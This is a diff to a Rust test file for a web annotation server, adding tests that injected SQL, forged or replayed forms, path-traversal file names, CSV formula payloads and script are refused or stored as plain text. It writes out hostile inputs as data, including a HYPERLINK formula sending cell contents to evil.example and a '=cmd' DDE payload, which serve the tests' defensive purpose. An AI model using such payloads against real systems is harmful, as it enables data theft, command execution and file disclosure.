@@ -2,7 +2,7 @@
 
 use axum::body::Body;
 use axum::http::Request;
-use gainsay_server::annotate::store::Settings;
+use gainsay_server::annotate::store::{Settings, Store};
 use gainsay_server::annotate::task::Task;
 use gainsay_server::annotate::web::{Access, App, Listening, serve};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
@@ -75,6 +75,7 @@ async fn forged_foreign_and_replayed_forms() {
             let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
             who.post_with("/work", &fields, &headers).await.status.as_u16()
         };
+        let before = contents(&store).await;
         assert_eq!(post(ann.clone(), fields(""), vec![]).await, 403, "no token");
         assert_eq!(post(ann.clone(), fields(&of_bo), vec![]).await, 403, "another session's token");
         assert_eq!(post(ann.clone(), fields(&csrf), vec![("origin", "https://evil.example")]).await, 403);
@@ -99,11 +100,16 @@ async fn forged_foreign_and_replayed_forms() {
             let status = post(ann.clone(), form, vec![]).await;
             assert!([400, 409].contains(&status), "{field}={bad}: {status}");
         }
-        assert!(store.votes().await.unwrap().is_empty());
+        assert_eq!(contents(&store).await, before);
         for _ in 0..3 {
             assert_eq!(post(ann.clone(), fields(&csrf), vec![]).await, 303);
         }
+        let once = contents(&store).await;
         assert_eq!(store.votes().await.unwrap().len(), 1, "a replayed form counts once");
+        let other: Vec<_> = fields(&csrf).into_iter().filter(|(k, _)| k != "answer").collect();
+        let other = [other, vec![("answer".into(), "left2".into())]].concat();
+        assert_eq!(post(ann.clone(), other, vec![]).await, 303, "replayed with another answer");
+        assert_eq!(contents(&store).await, once);
         for path in ["/admin", "/admin/settings", "/admin/export/preferences.jsonl"] {
             assert_eq!(ann.get(path).await.status, 403, "{path}");
         }
@@ -133,26 +139,154 @@ async fn guessing_is_slowed_down_and_finds_nothing() {
     assert!(App::new(store, &Access { admin_secret: "short".into(), public_url: String::new() }, None).is_err());
 }
 
+/// Everything that a refused request must leave as it was.
+async fn contents(store: &Store) -> String {
+    let (items, votes, people) = (store.items().await, store.votes().await, store.people().await);
+    let (settings, decided, trail) = (store.settings().await, store.resolutions().await, store.events(10_000).await);
+    format!(
+        "{:?}",
+        (items.unwrap(), votes.unwrap(), people.unwrap(), settings.unwrap(), decided.unwrap(), trail.unwrap())
+    )
+}
+
+const SQL: &str = "'; DROP TABLE items; DELETE FROM meta; -- \" OR 1=1";
+
+/// Fields that hold free text keep it, letter by letter.
 #[tokio::test]
-async fn sql_in_every_field_is_text() {
-    const SQL: &str = "'; DROP TABLE items; -- \" OR 1=1";
+async fn sql_in_free_text_is_text() {
     for database in databases().await {
-        let store = filled(&database, 2, 1).await;
+        let store = filled(&database, 2, 2).await;
+        let mut task = pairs(3).remove(2);
+        if let Task::Compare(pair) = &mut task {
+            (pair.id, pair.first.text) = (SQL.into(), SQL.into());
+        }
+        store.add_items(&[task]).await.unwrap();
         let app = router(&store, "");
-        let ann = annotator(&app, &store, SQL).await;
-        let said = ann.answer(&[("answer", "skip"), ("reason", SQL), ("comment", SQL)]).await;
-        assert_eq!(said.status, 303);
+        let (ann, bo) = (annotator(&app, &store, SQL).await, annotator(&app, &store, "bo").await);
+        let page = ann.get("/work").await.text;
+        let hidden = ["csrf", "item", "ticket"].map(|name| (name, value(&page, name)));
+        let mut draft: Vec<(&str, &str)> = hidden.iter().map(|(k, v)| (*k, v.as_str())).collect();
+        draft.extend([("comment", SQL), ("label", SQL), (SQL, SQL)]);
+        assert_eq!(ann.post("/draft", &draft).await.status, 204);
+        assert_eq!(ann.answer(&[("answer", "skip"), ("reason", SQL), ("comment", SQL)]).await.status, 303);
+        assert_eq!(ann.answer(&[("answer", "tie"), ("comment", SQL)]).await.status, 303);
+        for _ in 0..2 {
+            assert_eq!(bo.answer(&[("answer", "left1"), (SQL, SQL)]).await.status, 303);
+        }
         let boss = admin(&app, &store).await;
         let csrf = value(&boss.get("/admin/people").await.text, "csrf");
-        assert_eq!(
-            boss.post("/admin/access", &[("csrf", &csrf), ("annotator", SQL), ("active", "no")]).await.status,
-            400
-        );
         assert_eq!(boss.post("/admin/people", &[("csrf", &csrf), ("name", SQL)]).await.status, 200);
-        assert_eq!(boss.get(&format!("/admin/export/{}", crate::support_web::encode(SQL))).await.status, 404);
+        let settings =
+            [("title", SQL), ("guidelines", SQL), ("overlap", "2"), ("gold_every", "0"), ("lease_seconds", "60")];
+        let mut fields = vec![("csrf", csrf.as_str()), ("cost_per_hour", "1")];
+        fields.extend(settings);
+        assert_eq!(boss.post("/admin/settings", &fields).await.status, 303);
+        let open = boss.get("/admin/disagreements").await.text;
+        let item = value(&open, "item");
+        let decision = [("csrf", csrf.as_str()), ("item", &item), ("why", SQL), ("decision", "tie")];
+        assert_eq!(boss.post("/admin/disagreements", &decision).await.status, 303);
+        assert_eq!(store.items().await.unwrap().len(), 3);
+        assert!(store.votes().await.unwrap().iter().filter(|v| v.annotator == SQL).all(|v| v.given.comment == SQL));
+        assert_eq!(store.settings().await.unwrap().title, SQL);
+        assert_eq!(store.resolutions().await.unwrap()[0].reason, SQL);
+    }
+}
+
+/// Fields that hold anything else refuse it and change nothing.
+#[tokio::test]
+async fn sql_elsewhere_is_refused_and_changes_nothing() {
+    for database in databases().await {
+        let store = filled(&database, 2, 2).await;
+        let app = router(&store, "");
+        let ann = annotator(&app, &store, "ann").await;
+        let boss = admin(&app, &store).await;
+        let page = ann.get("/work").await.text;
+        let csrf = value(&boss.get("/admin/people").await.text, "csrf");
+        let before = contents(&store).await;
+        let own = [("csrf", value(&page, "csrf")), ("item", value(&page, "item")), ("ticket", value(&page, "ticket"))];
+        for path in ["/work", "/draft"] {
+            for field in ["csrf", "item", "ticket", "answer", "safe_left", "rating_right"] {
+                if path == "/draft" && !["csrf", "item", "ticket"].contains(&field) {
+                    continue;
+                }
+                let mut form: Vec<(&str, &str)> = own.iter().map(|(k, v)| (*k, v.as_str())).collect();
+                form.push(("answer", "tie"));
+                form.retain(|(name, _)| *name != field);
+                form.push((field, SQL));
+                let status = ann.post(path, &form).await.status.as_u16();
+                assert!([400, 403, 409].contains(&status), "{path} {field}: {status}");
+            }
+        }
+        assert_eq!(ann.post("/undo", &[("csrf", SQL)]).await.status, 403);
+        let admins: [(&str, Vec<(&str, &str)>); 5] = [
+            ("/admin/access", vec![("annotator", SQL), ("active", "no")]),
+            ("/admin/settings", vec![("title", "t"), ("overlap", SQL), ("cost_per_hour", "0")]),
+            ("/admin/settings", vec![("title", "t"), ("overlap", "1"), ("cost_per_hour", SQL)]),
+            ("/admin/disagreements", vec![("item", SQL), ("decision", "tie")]),
+            ("/admin/disagreements", vec![("item", "1"), ("decision", SQL)]),
+        ];
+        for (path, mut fields) in admins {
+            fields.push(("csrf", &csrf));
+            assert_eq!(boss.post(path, &fields).await.status, 400, "{path} {fields:?}");
+        }
+        let odd = Browser { app: app.clone(), session: SQL.into() };
+        assert_eq!(odd.get("/work").await.location, "/", "a session that is none");
+        let path = format!("/invite/{}", crate::support_web::encode(SQL));
+        assert_eq!(odd.get(&path).await.status, 404);
+        assert_eq!(odd.post(&path, &[]).await.status, 404);
+        assert_eq!(odd.post("/admin/sign-in", &[("secret", SQL)]).await.status, 403);
         assert!(store.session(SQL).await.unwrap().is_none() && store.invited(SQL).await.unwrap().is_none());
-        assert_eq!(store.items().await.unwrap().len(), 2);
-        assert_eq!(store.votes().await.unwrap()[0].given.comment, SQL);
+        assert_eq!(contents(&store).await, before);
+    }
+}
+
+/// What a spreadsheet would run, what a browser would run, and names of files that lead elsewhere.
+#[tokio::test]
+async fn exports_run_nowhere_and_their_names_lead_nowhere() {
+    const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1)";
+    for database in databases().await {
+        let store = filled(&database, 0, 1).await;
+        let mut tasks = pairs(1);
+        if let Task::Compare(pair) = &mut tasks[0] {
+            pair.id = "../../etc/passwd\r\nSet-Cookie: a=b".into();
+            pair.prompt = gainsay_core::record::Prompt::Text(FORMULA.into());
+            (pair.first.text, pair.second.text) = ("+1".into(), format!("@x\n{SCRIPT}"));
+        }
+        store.add_items(&tasks).await.unwrap();
+        let app = router(&store, "");
+        let ann = annotator(&app, &store, "-ann|x").await;
+        assert_eq!(ann.answer(&[("answer", "tie"), ("comment", "=cmd|' /C calc'!A0")]).await.status, 303);
+        let boss = admin(&app, &store).await;
+        let csv = boss.get("/admin/export/votes.csv").await;
+        let risky = ["=HYPER", "+1", "@x", "-ann", "=cmd"];
+        for text in risky {
+            assert!(csv.text.contains(&format!("'{text}")), "{text} is not disarmed in {}", csv.text);
+            assert!(
+                !csv.text.contains(&format!(",{text}")) && !csv.text.contains(&format!("\"{text}")),
+                "{}",
+                csv.text
+            );
+        }
+        for (name, kind) in [
+            ("votes.csv", "text/csv; charset=utf-8"),
+            ("preferences.jsonl", "application/jsonl"),
+            ("label-studio.json", "application/json"),
+        ] {
+            let file = boss.get(&format!("/admin/export/{name}")).await;
+            assert_eq!((file.kind.as_str(), file.disposition), (kind, format!("attachment; filename=\"{name}\"")));
+            assert!(file.cookie.is_empty() && file.policy.contains("default-src 'none'"));
+        }
+        for name in
+            ["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e", "votes.csv%00", "votes.csv%0d%0aX:%20y", SCRIPT]
+        {
+            let path = format!(
+                "/admin/export/{}",
+                if name.contains('%') { name.into() } else { crate::support_web::encode(name) }
+            );
+            let refused = boss.get(&path).await;
+            assert_eq!(refused.status, 404, "{name}");
+            assert!(!refused.text.contains("evil") && !refused.text.contains("alert"), "{}", refused.text);
+        }
     }
 }
 
